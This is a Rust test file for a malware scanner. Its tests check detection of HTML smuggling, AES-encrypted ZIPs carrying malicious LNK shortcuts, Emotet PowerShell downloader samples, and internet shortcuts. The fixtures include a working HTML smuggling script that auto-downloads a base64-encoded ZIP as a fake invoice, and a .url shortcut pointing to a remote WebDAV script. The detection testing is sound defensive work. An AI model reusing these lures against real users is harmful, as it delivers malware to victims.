//! HTML smuggling and scripts (spec §2.11, §2.15), end to end. Pages are written here in the style
//! of the public Qakbot/Emotet write-ups around real payloads: an AES ZIP made with the `zip` crate
//! holding a shortcut made by pylnk3 (`crates/kensa-formats/testdata/lnk`), and the Emotet 2019
//! PowerShell downloaders of the corpus (read from their ZIP in memory).

use std::io::{Cursor, Write};
use std::path::Path;

use base64::Engine;
use kensa_core::{Severity, Verdict};
use kensa_scan::{ScanOptions, scan_bytes};
use zip::write::{SimpleFileOptions, ZipWriter};

mod common;
use common::*;

fn aes_zip(name: &str, data: &[u8], password: &str) -> Vec<u8> {
    let mut w = ZipWriter::new(Cursor::new(Vec::new()));
    let opts = SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .with_aes_encryption(zip::AesMode::Aes256, password);
    w.start_file(name, opts).expect("start");
    w.write_all(data).expect("write");
    w.finish().expect("finish").into_inner()
}

fn page(payload_b64: &str, shown: &str) -> String {
    format!(
        "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>Document</title></head><body>\
         <p>{shown}</p>\
         <script>\
         var d = \"{payload_b64}\";\
         var b = window.atob(d); var a = new Uint8Array(b.length);\
         for (var i = 0; i < b.length; i++) {{ a[i] = b.charCodeAt(i); }}\
         var blob = new Blob([a], {{type: 'application/zip'}});\
         var l = document.createElement('a'); l.href = URL.createObjectURL(blob);\
         l.download = 'Invoice_11_2026.zip'; document.body.appendChild(l); l.click();\
         </script></body></html>"
    )
}

/// The 2022 chain: HTML attachment → AES ZIP (password printed on the page) → LNK → PowerShell.
#[test]
fn smuggled_zip_opens_with_the_password_on_the_page() {
    let lnk = std::fs::read(
        Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("../kensa-formats/testdata/lnk/pylnk3-powershell-enc-docicon.lnk"),
    )
    .expect("fixture");
    let zip = aes_zip("Invoice_11_2026.pdf.lnk", &lnk, "ZX481");
    let b64 = base64::engine::general_purpose::STANDARD.encode(&zip);
    let html = page(&b64, "ファイルのパスワード：ZX481");
    let r = scan_bytes("Invoice.html", html.as_bytes(), &ScanOptions::default());
    assert_eq!(r.verdict, Verdict::Malicious, "{:?}", symbols(&r));
    let s = find(&r, "HTML_SMUGGLING").expect("smuggling");
    assert_eq!(s.severity, Severity::Critical);
    assert!(
        s.evidence.contains("Invoice_11_2026.zip (zip, base64)"),
        "{}",
        s.evidence
    );
    let pw = find(&r, "ZIP_PASSWORD_RECOVERED").expect("page password used");
    assert_eq!(pw.evidence, "password \"ZX481\" (from body)");
    let lnk = find(&r, "LNK_LOLBIN").expect("shortcut analysed");
    assert_eq!(
        lnk.location.display(),
        "Invoice.html > Invoice_11_2026.zip[password from body] > Invoice_11_2026.pdf.lnk"
    );
}

/// A page with the same script but nothing encoded in it is not condemned.
#[test]
fn pattern_without_payload_is_low_at_most() {
    let html = page("", "hello");
    let r = scan_bytes("page.html", html.as_bytes(), &ScanOptions::default());
    if let Some(s) = find(&r, "HTML_SMUGGLING") {
        assert!(s.severity <= Severity::Low, "{}", s.evidence);
    }
    assert!(!r.verdict.is_detection(), "{:?}", symbols(&r));
}

/// The 13 Emotet 2019 PowerShell downloaders: critical as `.ps1` files and by content alone.
#[test]
fn emotet_powershell_downloaders_are_critical() {
    let scripts = emotet_members(|n| n.starts_with("unique_powershell/"));
    assert_eq!(scripts.len(), 13);
    for (name, bytes) in scripts {
        for shown in ["update.ps1", "readme.txt"] {
            let r = scan_bytes(shown, &bytes, &ScanOptions::default());
            let s = find(&r, "SCRIPT").unwrap_or_else(|| panic!("{name} as {shown}"));
            assert_eq!(s.severity, Severity::Critical, "{name}: {}", s.evidence);
            assert_eq!(r.verdict, Verdict::Malicious, "{name}");
        }
    }
}

/// Internet shortcuts: an http target is low, a WebDAV/UNC target high (spec §2.15).
#[test]
fn url_shortcuts_by_target() {
    let http = b"[InternetShortcut]\r\nURL=https://example.com/invoice\r\n";
    let r = scan_bytes("a.url", http, &ScanOptions::default());
    assert_eq!(
        find(&r, "URL_SHORTCUT").expect("url").severity,
        Severity::Low
    );
    let dav = b"[InternetShortcut]\r\nURL=file://\\\\198.51.100.7@SSL\\DavWWWRoot\\invoice.js\r\n";
    let r = scan_bytes("a.url", dav, &ScanOptions::default());
    assert_eq!(
        find(&r, "URL_SHORTCUT").expect("url").severity,
        Severity::High
    );
}
